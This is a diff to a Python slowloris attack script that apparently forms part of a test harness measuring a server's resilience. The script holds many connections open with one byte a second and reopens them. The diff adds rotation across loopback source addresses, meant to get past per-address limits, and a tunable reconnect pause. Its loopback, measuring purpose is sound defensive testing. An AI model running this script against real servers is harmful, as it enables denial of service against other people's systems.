@@ -1,12 +1,14 @@
 """The slowloris attacker, in its own process so its work is not charged to the measuring clients.
 
-    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS
+    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS [SOURCES [PAUSE]]
 
-N connections from HOST's loopback source 127.0.0.1 each send one byte a second and never a
-newline; a connection the server closes is re-opened a second later. Starts are spread over one
-second. Prints ``started`` once every attacker has begun, then, after SECONDS, one JSON line:
-``{"held": [seconds each accepted connection lasted], "refused": n}``, where connections closed
-in under half a second count as refused.
+N connections each send one byte a second and never a newline; a connection the server closes
+is re-opened PAUSE seconds later (default 1; 0: the moment it is closed). With SOURCES > 0 the
+connections come from SOURCES loopback addresses 127.0.1.1, 127.0.1.2, ... in turn (attackers
+spread over many addresses, or behind a load balancer); else from 127.0.0.1. Starts are spread
+over one second. Prints ``started`` once every attacker has begun, then, after SECONDS, one JSON
+line: ``{"held": [seconds each accepted connection lasted], "refused": n, "connects": n}``, where
+connections closed in under half a second count as refused.
 """
 
 from __future__ import annotations
@@ -23,18 +25,25 @@ import gevent.socket
 
 def main() -> None:
     host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+    sources = int(sys.argv[5]) if len(sys.argv) > 5 else 0
+    pause = float(sys.argv[6]) if len(sys.argv) > 6 else 1.0
     over = gevent.event.Event()
     held: list[float] = []
     refused = [0]
+    connects = [0]
 
-    def attacker(phase: float) -> None:
-        over.wait(phase)  # attackers start spread over one second, not in lockstep
+    def attacker(i: int) -> None:
+        over.wait(i / n)  # attackers start spread over one second, not in lockstep
+        source = f"127.0.1.{1 + i % sources}" if sources else None
         while not over.is_set():
             sock = gevent.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
             sock.settimeout(1.0)
             start = time.monotonic()
             try:
+                if source is not None:
+                    sock.bind((source, 0))
                 sock.connect((host, port))
+                connects[0] += 1
                 start = time.monotonic()
                 while not over.is_set():
                     sock.sendall(b"x")  # one byte a second, never a newline
@@ -52,14 +61,15 @@ def main() -> None:
                 refused[0] += 1
             elif not over.is_set():
                 held.append(lasted)
-            over.wait(1.0)  # the attacker's pause before reconnecting
+            if pause:
+                over.wait(pause)  # the attacker's pause before reconnecting
 
-    glets = [gevent.spawn(attacker, i / n) for i in range(n)]
+    glets = [gevent.spawn(attacker, i) for i in range(n)]
     print("started", flush=True)
     over.wait(seconds)  # the attack runs
     over.set()
     gevent.killall(glets, timeout=5)
-    print(json.dumps({"held": held, "refused": refused[0]}), flush=True)
+    print(json.dumps({"held": held, "refused": refused[0], "connects": connects[0]}), flush=True)
 
 
 if __name__ == "__main__":
